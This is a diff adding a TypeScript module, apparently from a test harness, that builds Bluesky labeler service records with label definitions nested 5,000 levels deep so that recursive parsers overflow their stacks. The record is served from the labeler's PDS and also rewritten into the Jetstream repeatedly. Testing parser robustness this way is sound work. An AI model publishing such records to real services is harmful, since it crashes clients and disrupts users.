@@ -1,0 +1,30 @@
+import type { Kind } from '../attack.ts';
+import { deepJson } from '../bytes.ts';
+import { commitText } from '../jetstream.ts';
+import { sendRecord } from '../sound.ts';
+
+/** Deep enough for a recursive writer to overflow its stack, in 10 kB. */
+const depth = 5_000;
+
+const record = `{"$type":"app.bsky.labeler.service","createdAt":"2026-01-05T09:00:00.000Z","policies":{"labelValues":["spam"],"labelValueDefinitions":${deepJson(depth)}}}`;
+
+/** Definitions that are nested deeply, in the record on the labeler's own PDS. */
+export const deepDefinitions: Kind = {
+  name: 'deep-definitions',
+  does: 'serves label definitions nested 5,000 deep from its own PDS',
+  attack: ({ labeler }) => ({ stream: null, record: ({ response }) => sendRecord(response, labeler.did, record) }),
+};
+
+/** The same in a record that the Jetstream carries. */
+export const deepAnnouncement: Kind = {
+  name: 'deep-announcement',
+  does: 'writes label definitions nested 5,000 deep, which the Jetstream carries',
+  attack: ({ labeler }) => {
+    let written = 0;
+    return {
+      stream: null,
+      // Every ten seconds: the record is rewritten without end.
+      announce: () => (written++ % 100 === 0 ? [commitText(labeler.did, record)] : []),
+    };
+  },
+};
